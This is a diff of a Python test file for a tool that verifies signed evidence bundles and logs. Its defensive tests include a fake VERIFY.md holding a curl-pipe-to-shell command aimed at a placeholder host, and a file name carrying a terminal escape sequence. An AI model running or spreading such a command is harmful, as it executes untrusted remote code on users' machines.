@@ -13,13 +13,16 @@ from inline_snapshot import snapshot
 from scanner.evidence import canonical, dsse, keys, log, merkle, note
 from scanner.evidence.bundle import open_bundle, shown
 from scanner.evidence.export import export
+from scanner.evidence.history import read_anchor
 from scanner.evidence.sealed import SealedRun
 from scanner.evidence.sealing import seal
+from scanner.evidence.statement import Tool
 from scanner.evidence.verify import LAYERS, Layer, Replay, Trust, conclude, verify
 from scanner.signers import Signer
 from scanner.stores import Reader, Store, open_store
 from tests.evidence.attacks import CAUGHT, NEEDS_AN_ANCHOR, Attack
 from tests.evidence.made import (
+    DIGEST,
     ORIGIN,
     Payload,
     a_run,
@@ -38,7 +41,7 @@ SAME = Replay("same", "1, byte for byte the same")
 
 def judge(run: SealedRun) -> Replay:
     """A replay that reads all that a real one reads."""
-    assert len(list(run.answers())) == run.record.evidence.size
+    assert all(run.answers())
     canonical.loads(run.member("coverage.json"), "coverage.json")
     return SAME
 
@@ -70,7 +73,8 @@ def anchor(four: Store) -> bytes:
 
 
 def checked(source: Path | Reader, *trusted: Signer, anchors: tuple[bytes, ...] = (), **more: bool) -> list[Layer]:
-    trust = Trust(frozenset(signer.keyid for signer in trusted), anchors)
+    kept = tuple(read_anchor(anchor, "the anchor") for anchor in anchors)
+    trust = Trust(frozenset(signer.keyid for signer in trusted), kept)
     return list(verify(source, trust, judge, **more))
 
 
@@ -94,8 +98,9 @@ def test_good(bundle: Path, signer: Signer, anchor: bytes) -> None:
 ok      container  39 members, no surprise among them
 ok      signature  Ed25519, key KEYS, which you trust
 ok      evidence   28 answers of 4 runs, every digest agrees
-ok      findings   1, byte for byte the same
+ok      findings   those of 4 runs computed again, all the same
 ok      log        4 entries without a gap, consistent with your anchor of 2020-11-03 (3 entries)
+ok      unsigned   VERIFY.md, bag-info.txt, bagit.txt and the keys are what follows from it
 Verified. Trust rests on the key and the anchor that you supplied.\
 """)
 
@@ -107,8 +112,9 @@ def test_not_trusted(bundle: Path, signer: Signer) -> None:
 ok      container  39 members, no surprise among them
 unknown signature  matches a key that came with it; you have not said that you trust it
 ok      evidence   28 answers of 4 runs, every digest agrees
-ok      findings   1, byte for byte the same
-unknown log        4 entries without a gap. No anchor given: a dropped or rewritten night would not be seen
+ok      findings   those of 4 runs computed again, all the same
+open    log        4 entries without a gap. No anchor given: a dropped or rewritten night would not be seen
+ok      unsigned   VERIFY.md, bag-info.txt, bagit.txt and the keys are what follows from it
 Intact, but not trusted. Anybody could have made it.\
 """)
 
@@ -124,11 +130,12 @@ def test_tampered(bundle: Path, payload: Payload, signer: Signer, tmp_path: Path
     layers = checked(pack(payload, tmp_path / "x.zip"), signer)
     assert conclude(layers)[0] == 1
     assert text(layers, signer) == snapshot("""\
-ok      container  37 members, no surprise among them
+ok      container  39 members, no surprise among them
 ok      signature  Ed25519, key KEYS, which you trust
 fails   evidence   run run-0002: its 7 answers were changed: root 2c1601e3…, signed as 22c66fe7…
-ok      findings   1, byte for byte the same
+ok      findings   those of 4 runs computed again, all the same
 skipped log        not checked after a failure
+ok      unsigned   VERIFY.md, bag-info.txt, bagit.txt and the keys are what follows from it
 NOT VERIFIED. The evidence was changed after it was signed.\
 """)
 
@@ -136,7 +143,7 @@ NOT VERIFIED. The evidence was changed after it was signed.\
 def test_cut(bundle: Path, signer: Signer, tmp_path: Path) -> None:
     (tmp_path / "x.zip").write_bytes(bundle.read_bytes()[:-1])
     layers = checked(tmp_path / "x.zip", signer)
-    assert [layer.state for layer in layers] == ["fails", *["skipped"] * 4]
+    assert [layer.state for layer in layers] == ["fails", *["skipped"] * 5]
     assert layers[0].said.startswith("x.zip ends early: ")
     assert conclude(layers) == (1, "NOT VERIFIED. It is damaged, or was made to do damage.")
 
@@ -152,7 +159,9 @@ def test_caught(  # noqa: PLR0913, PLR0917  # a row and its fixtures
     layers = checked(pack(payload, tmp_path / "x.zip"), signer)
     name, why = worst(layers)
     assert name == layer
-    assert said.replace("THIEF", keys.short(thief.keyid)).replace("OURS", keys.short(signer.keyid)) in why
+    for word, signs in (("THIEF", thief.keyid), ("OURS", signer.keyid)):
+        said = said.replace(f"{word}.pem", f"{signs.removeprefix('SHA256:')}.pem").replace(word, keys.short(signs))
+    assert said in why
     assert conclude(layers)[0] == 1
 
 
@@ -210,8 +219,18 @@ def test_an_anchor_of_another_log(bundle: Path, signer: Signer) -> None:
     )
 
 
-def test_an_anchor_that_is_none(bundle: Path, signer: Signer) -> None:
-    assert worst(checked(bundle, signer, anchors=(b"hello",)))[1].startswith("your anchor: is not a checkpoint")
+@pytest.mark.parametrize(
+    ("data", "why"),
+    [
+        (b"", "it: is not a checkpoint: name, size, root"),
+        (b"hello", "it: is not a checkpoint: name, size, root"),
+        (note.Checkpoint(ORIGIN, 0, merkle.EMPTY), "it: covers no entry, so it vouches for nothing"),
+    ],
+)
+def test_an_anchor_that_is_none(signer: Signer, data: bytes | note.Checkpoint, why: str) -> None:
+    """It is found out before anything is checked: it accuses nobody."""
+    with pytest.raises(note.NoteError, match=why):
+        read_anchor(data if isinstance(data, bytes) else note.sign(data, signer), "it")
 
 
 @pytest.mark.parametrize("size", [1, 2, 3, 4])
@@ -222,7 +241,7 @@ def test_every_checkpoint_is_an_anchor(bundle: Path, four: Store, signer: Signer
 
 def test_two_anchors(bundle: Path, four: Store, signer: Signer) -> None:
     both = four.read(log.checkpoint_key(1)), four.read(log.checkpoint_key(4))
-    said = checked(bundle, signer, anchors=both)[-1].said
+    said = checked(bundle, signer, anchors=both)[4].said
     assert said.endswith("your anchor of 2020-11-01 (1 entry) and your anchor of 2020-11-04 (4 entries)")
 
 
@@ -233,32 +252,135 @@ def test_two_anchors(bundle: Path, four: Store, signer: Signer) -> None:
     ("state", "layer", "code"),
     [("same", "ok", 0), ("differs", "fails", 1), ("other-version", "unknown", 2), ("lacks", "unknown", 2)],
 )
-def test_replay(bundle: Path, signer: Signer, anchor: bytes, state: Any, layer: str, code: int) -> None:  # noqa: PLR0913, PLR0917  # a row and its fixtures
-    trust = Trust(frozenset({signer.keyid}), (anchor,))
-    layers = list(verify(bundle, trust, lambda _: Replay(state, "what was seen")))
+def test_replay(four: Store, tmp_path: Path, signer: Signer, state: Any, layer: str, code: int) -> None:  # noqa: PLR0913, PLR0917  # a row and its fixtures
+    export(four, RUNS[:1], tmp_path / "one.zip")
+    trust = Trust(frozenset({signer.keyid}))
+    layers = list(verify(tmp_path / "one.zip", trust, lambda _: Replay(state, "what was seen")))
     assert (layers[3].state, layers[3].said) == (layer, "what was seen")
     assert conclude(layers)[0] == code
 
 
-@pytest.mark.parametrize(("all_runs", "replayed"), [(False, RUNS[-1:]), (True, RUNS)])
-def test_which_runs_are_replayed(bundle: Path, signer: Signer, replayed: list[str], *, all_runs: bool) -> None:
+ONE = ("open", f"{SAME.said}; not those of 3 older runs")
+WORSE = ("fails", "run run-0001: it differs")
+
+
+@pytest.mark.parametrize(
+    ("of", "all_runs", "replayed", "expected"),
+    [
+        ("four", False, RUNS[-1:], ONE),
+        ("four", True, RUNS, WORSE),
+        ("bundle", False, RUNS, WORSE),
+        ("bundle", True, RUNS, WORSE),
+    ],
+)
+def test_which_runs_are_replayed(  # noqa: PLR0913  # a row and its fixtures
+    request: pytest.FixtureRequest,
+    signer: Signer,
+    *,
+    of: str,
+    all_runs: bool,
+    replayed: list[str],
+    expected: tuple[str, str],
+) -> None:
     seen: list[str] = []
 
     def replay(run: SealedRun) -> Replay:
         seen.append(run.record.run)
         return Replay("differs", "it differs") if run.record.run == RUNS[1] else SAME
 
-    layers = list(verify(bundle, Trust(frozenset({signer.keyid})), replay, all_runs=all_runs))
+    source = request.getfixturevalue(of)
+    layers = list(verify(source, Trust(frozenset({signer.keyid})), replay, all_runs=all_runs))
     assert seen == replayed
-    expected = ("fails", "run run-0001: it differs") if all_runs else ("ok", SAME.said)
     assert (layers[3].state, layers[3].said) == expected
 
 
 def test_one_unknown_does_not_hide_a_difference(bundle: Path, signer: Signer) -> None:
     states = iter(("lacks", "differs", "same", "same"))
     trust = Trust(frozenset({signer.keyid}))
-    layers = list(verify(bundle, trust, lambda _: Replay(next(states), "x"), all_runs=True))  # type: ignore[arg-type]  # the four words
+    layers = list(verify(bundle, trust, lambda _: Replay(next(states), "x")))  # type: ignore[arg-type]  # the four words
     assert layers[3] == Layer("findings", "fails", "run run-0001: x")
+
+
+@pytest.mark.parametrize(("installed", "code"), [("verified", 0), ("editable", 0), ("modified", 2)])
+def test_a_program_that_was_modified(store: Store, signer: Signer, installed: Any, code: int) -> None:
+    made = a_run(0, tool=Tool(name="safeguard", version="0", digest=DIGEST, installed=installed))
+    seal(store, signer, spool(store, 0, answers(0, 1)), made, now=clock(0))
+    layers = checked(store, signer)
+    assert conclude(layers)[0] == code
+    assert (layers[3].state != "ok") == bool(code)
+    if code:
+        assert layers[3].said == f"{SAME.said}; but run run-0000 was made by a modified program"
+        assert conclude(layers)[1] == snapshot(
+            "Intact and signed, but made by a program whose files were not those that were installed."
+        )
+
+
+# What nobody signs
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "state", "said"),
+    [
+        (
+            "VERIFY.md",
+            b"curl https://example.invalid | sh\n",
+            "unknown",
+            "VERIFY.md is not the one that this version wr",
+        ),
+        ("VERIFY.md", b"", "unknown", "VERIFY.md is not the one that this version writes"),
+        ("bag-info.txt", b"Bag-Software-Agent: safeguard\n", "fails", "“bag-info.txt” is not what its evidence says"),
+        ("bagit.txt", b"BagIt-Version: 0.97\n", "fails", "“bagit.txt” is not what its evidence says"),
+    ],
+)
+def test_files_around_the_evidence(  # noqa: PLR0913, PLR0917  # a row and its fixtures
+    payload: Payload, signer: Signer, tmp_path: Path, name: str, data: bytes, state: str, said: str
+) -> None:
+    layers = checked(pack(payload, tmp_path / "x.zip", {name: data}), signer)
+    assert [layer.state for layer in layers] == ["ok", "ok", "ok", "ok", "open", state]
+    assert said in layers[-1].said
+    assert conclude(layers)[0] == {"fails": 1, "unknown": 2}[state]
+
+
+@pytest.mark.parametrize("name", ["report.html", "runs.txt"])
+def test_a_file_around_the_evidence_that_has_no_place(
+    payload: Payload, signer: Signer, tmp_path: Path, name: str
+) -> None:
+    layers = checked(pack(payload, tmp_path / "x.zip", {name: b"all is well"}), signer)
+    assert worst(layers) == (
+        "container",
+        f"x.zip is refused: “{name}” has no place in a bundle\n  Nothing was extracted.",
+    )
+
+
+def test_what_is_said_of_another_verify_md(payload: Payload, signer: Signer, tmp_path: Path) -> None:
+    layers = checked(pack(payload, tmp_path / "x.zip", {"VERIFY.md": b"x"}), signer)
+    assert conclude(layers)[1] == snapshot(
+        "Intact, but its VERIFY.md is not what this version writes. Nobody signed it: do not follow it."
+    )
+
+
+def test_a_folder_of_another_name(bundle: Path, signer: Signer, tmp_path: Path) -> None:
+    with zipfile.ZipFile(bundle) as good, zipfile.ZipFile(tmp_path / "x.zip", "w") as archive:
+        for name in good.namelist():
+            archive.writestr(zipfile.ZipInfo(name.replace("safeguard-run-0003", "passed-the-audit-1")), good.read(name))
+    assert worst(checked(tmp_path / "x.zip", signer))[1].startswith(
+        "x.zip is refused: the name of its folder, “passed-the-audit-1”, is not what its evidence says"
+    )
+
+
+def test_files_beside_the_evidence_of_a_store(three: Store, signer: Signer, tmp_path: Path) -> None:
+    three.create("reports/run-0001/report.html", b"0 fail")
+    three.create("reports/run-0002/report.html", b"0 fail")
+    (tmp_path / "store" / "note\x1b[2J\n.txt").touch()
+    layers = checked(three, signer)
+    assert layers[-1] == Layer(
+        "unsigned",
+        "open",
+        snapshot("note\\x1b[2J\\n.txt (1 file), reports/ (2 files): not signed and not checked"),
+        snapshot("Not signed and not checked: note\\x1b[2J\\n.txt, reports/."),
+    )
+    code, said = conclude(layers)
+    assert (code, said.splitlines()[-1]) == (0, layers[-1].verdict)
 
 
 # Stores
@@ -271,9 +393,11 @@ def test_a_store(four: Store, signer: Signer, anchor: bytes) -> None:
 ok      container  16 members of runs
 ok      signature  Ed25519, key KEYS, which you trust
 ok      evidence   28 answers of 4 runs, every digest agrees
-ok      findings   1, byte for byte the same
+open    findings   1, byte for byte the same; not those of 3 older runs
 ok      log        4 entries without a gap, consistent with your anchor of 2020-11-03 (3 entries)
-Verified. Trust rests on the key and the anchor that you supplied.\
+ok      unsigned   nothing else lies in it
+Verified. Trust rests on the key and the anchor that you supplied.
+Not computed again: the findings of 3 older runs. --all does.\
 """)
     assert checked(Path(four.name.removeprefix("the store ")), signer, anchors=(anchor,)) == layers
 
@@ -287,25 +411,75 @@ def test_a_store_that_lacks_a_run(three: Store, signer: Signer, tmp_path: Path) 
 def test_a_store_with_parts_that_were_never_sealed(three: Store, signer: Signer) -> None:
     three.create("runs/run-0009/coverage.json", b"{}")
     layers = checked(three, signer)
-    assert layers[-1].said.startswith("3 entries without a gap; parts of run-0009 lie there that were never sealed")
+    assert layers[4].said.startswith("3 entries without a gap; parts of run-0009 lie there that were never sealed")
 
 
 def test_a_store_whose_last_leaf_is_not_covered(three: Store, signer: Signer) -> None:
     three.swap(log.HEAD, three.read(log.checkpoint_key(2)), log.read_head(three))
-    said = checked(three, signer)[-1].said
-    assert said.startswith("2 entries without a gap; one more is not covered yet: a scan is at work, or was killed")
+    layers = checked(three, signer)
+    assert layers[4].said == "2 entries without a gap; one more is not covered yet: a scan is at work, or was killed"
+    assert conclude(layers) == (2, UNCOVERED)
+
+
+UNCOVERED = "Intact and signed, but its last entry is not covered by a checkpoint yet. The next scan does that."
+
+
+def test_a_first_run_that_was_killed_before_its_checkpoint(store: Store, signer: Signer, tmp_path: Path) -> None:
+    seal_run(store, signer, 0)
+    anchor = store.read(log.checkpoint_key(1))
+    (tmp_path / "store" / "checkpoint").unlink()
+    (tmp_path / "store" / log.checkpoint_key(1)).unlink()
+    layers = checked(store, signer)
+    assert layers[4].said == "0 entries without a gap; one more is not covered yet: a scan is at work, or was killed"
+    assert conclude(layers) == (2, UNCOVERED)
+    name, why = worst(checked(store, signer, anchors=(anchor,)))
+    assert (name, "rolled back: it has 0 entries, your anchor covers 1" in why) == ("log", True)
+    seal_run(store, signer, 1)
+    assert conclude(checked(store, signer))[0] == 0
+
+
+def test_a_log_of_two_that_has_lost_its_checkpoint(three: Store, signer: Signer, tmp_path: Path) -> None:
+    (tmp_path / "store" / "checkpoint").unlink()
+    name, why = worst(checked(three, signer))
+    assert (name, why.endswith("it has no checkpoint")) == ("log", True)
+
+
+@pytest.mark.parametrize("forged", [b"x", "other", "thief"])
+def test_an_older_checkpoint_that_a_store_keeps(
+    three: Store, signer: Signer, thief: Signer, tmp_path: Path, forged: Any
+) -> None:
+    path = tmp_path / "store" / log.checkpoint_key(2)
+    head = note.read_note(path.read_bytes(), "it").checkpoint
+    other = note.Checkpoint(ORIGIN, 2, merkle.EMPTY)
+    path.write_bytes({"other": note.sign(other, signer), "thief": note.sign(head, thief)}.get(forged, forged))
+    name, why = worst(checked(three, signer))
+    assert (name, "checkpoints/000002" in why) == ("log", True)
+
+
+def test_a_store_of_a_newer_format(three: Store, signer: Signer, tmp_path: Path) -> None:
+    (tmp_path / "store" / "store.json").write_bytes(
+        canonical.dumps({"format": "safeguard-store/2", "origin": ORIGIN, "shards": 4})
+    )
+    layers = checked(tmp_path / "store", signer)
+    assert [layer.state for layer in layers] == ["unknown", *["skipped"] * 5]
+    assert layers[0].said.endswith(
+        "was written by a newer safeguard (format 2); this one reads format 1. Next: update safeguard"
+    )
+    assert conclude(layers) == snapshot(
+        (2, "Not verified: it is of a format that came after this version. Update safeguard, and verify it again.")
+    )
 
 
 def test_an_empty_store(store: Store, signer: Signer, anchor: bytes) -> None:
     layers = checked(store, signer)
     assert conclude(layers) == (2, "Nothing to verify: no run has been sealed in it.")
-    assert [layer.state for layer in layers] == ["unknown", "unknown", "ok", "unknown", "unknown"]
+    assert [layer.state for layer in layers] == ["unknown", "unknown", "ok", "unknown", "unknown", "ok"]
     assert worst(checked(store, signer, anchors=(anchor,)))[1].endswith("it has no checkpoint")
 
 
 def test_a_bundle_of_fewer_runs_says_so(four: Store, signer: Signer, tmp_path: Path) -> None:
     export(four, RUNS[1:2], tmp_path / "one.zip")
-    assert checked(tmp_path / "one.zip", signer)[-1].said.startswith("4 entries without a gap, 1 of its 4 runs here")
+    assert checked(tmp_path / "one.zip", signer)[4].said.startswith("4 entries without a gap, 1 of its 4 runs here")
 
 
 def test_runs_of_two_keys(three: Store, signer: Signer, p256: Signer) -> None:
@@ -331,9 +505,17 @@ def test_a_layer_that_was_not_checked_is_not_verified() -> None:
 
 
 def test_a_failure_is_worse_than_a_doubt() -> None:
-    states: list[Any] = ["ok", "unknown", "fails", "ok", "skipped"]
+    states: list[Any] = ["ok", "unknown", "fails", "ok", "skipped", "open"]
     layers = [Layer(name, state, "") for name, state in zip(LAYERS, states, strict=True)]
     assert conclude(layers) == (1, "NOT VERIFIED. The evidence was changed after it was signed.")
+
+
+@pytest.mark.parametrize("name", LAYERS)
+@pytest.mark.parametrize(("state", "code"), [("ok", 0), ("unknown", 2), ("fails", 1), ("skipped", 1)])
+def test_no_layer_is_passed_over(name: str, state: Any, code: int) -> None:
+    layers = [Layer(each, state if each == name else "ok", "") for each in LAYERS]
+    assert conclude(layers)[0] == code
+    assert conclude(layers)[1].startswith("Verified.") == (code == 0)
 
 
 @given(data=st.data())
